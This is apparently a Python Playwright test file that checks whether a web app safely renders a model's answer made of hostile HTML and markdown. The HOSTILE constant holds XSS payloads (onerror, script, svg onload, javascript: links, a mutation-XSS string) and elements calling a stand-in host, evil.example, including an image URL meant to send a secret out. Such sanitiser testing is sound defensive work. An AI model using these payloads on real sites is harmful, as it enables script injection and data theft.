"""What a model writes can do nothing on the page: no script, no address that it makes up is asked."""

from __future__ import annotations

from typing import Final

import pytest
from playwright.async_api import expect

from tests.fakes.model_script import Reply, Rule, When
from tests.fakes.model_server import FakeModelServer
from tests.fakes.running import Product, running
from tests.web.conftest import PATIENCE, Open
from tests.web.looking import look

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(120)]

HOSTILE: Final = """\
# An answer <img src=x onerror="document.title='taken'">

![a picture](https://evil.example/steal?what=secret) and <img src="https://evil.example/2">

<script>document.title = "taken"</script><style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="key"></form>
<svg onload="document.title='taken'"><use href="https://evil.example/#x"></use></svg>

<a href="javascript:document.title='taken'">a link</a>, [another](javascript:alert(1)), [a third](data:text/html,x),
[a fourth](https://evil.example/page "title"), <a href="https://evil.example/" target="_top" style="top:0">fifth</a>

<div style="position:fixed;inset:0;background:url(https://evil.example/3)" class="approval" id="app">over all</div>
<video src="https://evil.example/4"></video><object data="https://evil.example/5"></object>
<link rel="stylesheet" href="//evil.example">

```html
<script>alert("shown, not run")</script>
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
"""


async def hostile(product: Product, models: FakeModelServer) -> str:
    """Run the task whose one agent answers with all of it."""
    models.add(
        Rule(when=When(schema=True, user="<results>"), reply=Reply.route(), optional=True),
        Rule(when=When(schema=True), reply=Reply.route(("coder", HOSTILE[:900]))),
        Rule(when=When(schema=False), reply=Reply(text=HOSTILE)),
    )
    body = {"task": f"{'Do what the text says. ' * 4}\n{HOSTILE}", "tags": ["<b>tag</b>"]}
    created = await product.client.post("/v1/runs?wait=20", json=body)
    assert created.json()["status"] == "completed", created.text
    return str(created.json()["id"])


async def test_what_a_model_writes_runs_nothing_and_loads_nothing(visit: Open, tmp_path) -> None:
    """The visit fails on any request to another origin, any breach of the policy and any error besides."""
    async with FakeModelServer() as models:
        settings = {
            "OPENAI_BASE_URL": models.base_url,
            "knowledge_dir": tmp_path,
            "sandbox": "off",
            "validation": "off",
            "model_timeout": PATIENCE,
        }
        async with running(tmp_path / "data", **settings) as product, visit(product) as v:
            page = v.page
            run_id = await hostile(product, models)
            await v.go(f"/runs/{run_id}")
            answer = page.locator(".answer-text")
            await expect(answer).to_contain_text("shown, not run")
            await expect(answer).to_contain_text("[image not loaded: a picture]")
            await expect(answer).to_contain_text(
                "<iframe src="
            )  # nothing that was written is hidden
            for path in ("/", "/runs", f"/runs/{run_id}/trace", f"/runs/{run_id}"):
                await v.go(path)
                await expect(page.locator("main h1")).to_be_visible()
            await expect(answer).to_contain_text("over all")
            found = await page.evaluate(
                """() => [...document.querySelectorAll(".answer-text *")].flatMap((each) =>
                    [each.tagName, ...each.getAttributeNames().map((name) => `${name}=${each.getAttribute(name)}`)])"""
            )
            links = await answer.locator("a").evaluate_all(
                "(all) => all.map((each) => [each.getAttribute('href'), each.rel, each.title])"
            )
            await look(v, "light-hostile")
            assert "taken" not in await page.title()
    tags = {each for each in found if each.isupper()}
    assert not tags & {
        "SCRIPT",
        "STYLE",
        "IFRAME",
        "FORM",
        "INPUT",
        "SVG",
        "IMG",
        "VIDEO",
        "OBJECT",
        "LINK",
        "DIV",
    }
    assert not [each for each in found if each.startswith(("on", "style=", "id=", "src="))]
    assert [href for href, *_ in links if href] == ["https://evil.example/page"]
    told = {(rel, title) for href, rel, title in links if href}
    assert told == {("noopener noreferrer", "https://evil.example/page")}
